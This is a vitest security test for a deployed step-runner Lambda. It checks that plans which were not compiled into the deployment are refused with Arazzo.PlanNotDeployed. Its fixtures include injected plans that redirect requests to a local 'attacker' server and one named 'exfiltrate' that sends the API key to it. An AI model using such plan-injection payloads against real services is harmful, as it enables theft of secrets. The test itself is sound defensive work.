/**
 * Caller → step runner. Anyone who may invoke the function chooses its event; the step runner must run only
 * the plans its deployment compiled in, and call only the origins they name. Attacked here on the bundle
 * `cdk deploy` would upload, in a fresh process, with a fake Secrets Manager that counts reads and an
 * "attacker" server on 127.0.0.1 that records whatever reaches it.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { initialRunState, type RunState, type StepPlan, type StepRunnerEvent } from '../../lib/compile/step-plan.ts';
import { bundledStepRunner, type BundledStepRunner } from '../support/bundled-step-runner.ts';
import { shippedConfig } from '../support/civitai-stack.ts';
import { json, startTestServer, type TestServer } from '../support/http-server.ts';

const SECRET = 'sk-live-7d41c0e2-never-leaves';

let api: TestServer;
let attacker: TestServer;
let runner: BundledStepRunner;

beforeAll(async () => {
  api = await startTestServer(json(200, { id: 'wf-1', status: 'processing' }));
  attacker = await startTestServer(json(200, { id: 'stolen' }));
  runner = await bundledStepRunner(shippedConfig({ serverUrls: { civitaiOrchestrationApi: api.baseUrl } }), JSON.stringify({ apiKey: SECRET }));
}, 120_000);
afterAll(async () => {
  await Promise.all([api?.close(), attacker?.close(), runner?.close()]);
});
beforeEach(() => {
  for (const server of [api, attacker, runner.secretsManager]) server.received.length = 0;
});

function deployedPlanText(stepId: string): string {
  const task = runner.workflow.definition.States[stepId];
  if (task?.Type !== 'Task') throw new Error(`${stepId} is not a Task`);
  return (task.Parameters.Payload as { plan: string }).plan;
}

function pollState(): RunState {
  const state = initialRunState({ prompt: 'a fox', engine: 'sdxl' });
  state.steps = { submitGeneration: { workflowId: 'wf-1' } };
  return state;
}

const event = (plan: unknown): StepRunnerEvent =>
  ({ plan, state: pollState(), executionId: 'arn:aws:states:us-east-1:111122223333:execution:x:attack' }) as StepRunnerEvent;

describe('a plan the deployment did not compile in', () => {
  const foreignPlans: Array<[string, () => unknown]> = [
    [
      'the deployed poll plan aimed at another origin',
      () => JSON.stringify({ ...(JSON.parse(deployedPlanText('pollWorkflow')) as StepPlan), request: { ...(JSON.parse(deployedPlanText('pollWorkflow')) as StepPlan).request, url: `${attacker.baseUrl}/steal/{workflowId}` } }),
    ],
    [
      'a plan written from scratch that asks for the secret',
      () => JSON.stringify({ ...(JSON.parse(deployedPlanText('pollWorkflow')) as StepPlan), stepId: 'exfiltrate', request: { method: 'GET', url: `${attacker.baseUrl}/k`, parameters: [{ name: 'k', in: 'query', value: '$inputs.apiKey' }], timeoutMs: 2000 } }),
    ],
    ['the deployed plan text with one byte changed', () => deployedPlanText('pollWorkflow').replace(api.baseUrl, attacker.baseUrl)],
    ['the deployed plan as an object instead of its text', () => JSON.parse(deployedPlanText('pollWorkflow')) as unknown],
  ];

  it.each(foreignPlans)('%s is refused with Arazzo.PlanNotDeployed: the attacker gets nothing, the secret is never read', async (_name, plan) => {
    const invocation = await runner.invoke(event(plan()));

    expect(invocation.error?.name).toBe('Arazzo.PlanNotDeployed');
    expect(invocation.error?.message).toMatch(/did not compile in|not a string/);
    expect(attacker.received).toHaveLength(0);
    expect(api.received).toHaveLength(0);
    expect(runner.secretsManager.received).toHaveLength(0);
    expect(invocation.stdout + invocation.stderr).not.toContain(SECRET);
    // The refusal is logged, as one JSON line naming the error.
    const logged = invocation.stdout.split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(logged).toEqual([expect.objectContaining({ level: 'ERROR', error: 'Arazzo.PlanNotDeployed' })]);
  });
});

describe('a plan the deployment compiled in', () => {
  it('runs: the secret is read and goes to the deployed API only (the same harness can see a leak)', async () => {
    const invocation = await runner.invoke(event(deployedPlanText('pollWorkflow')));

    expect(invocation.error).toBeUndefined();
    expect((invocation.result as RunState).control.lastStep.statusCode).toBe(200);
    expect(runner.secretsManager.received).toHaveLength(1);
    expect(api.received.map((r) => [r.path, r.headers.authorization])).toEqual([['/v2/consumer/workflows/wf-1', `Bearer ${SECRET}`]]);
    expect(attacker.received).toHaveLength(0);
    expect(invocation.stdout).not.toContain(SECRET);
  });
});
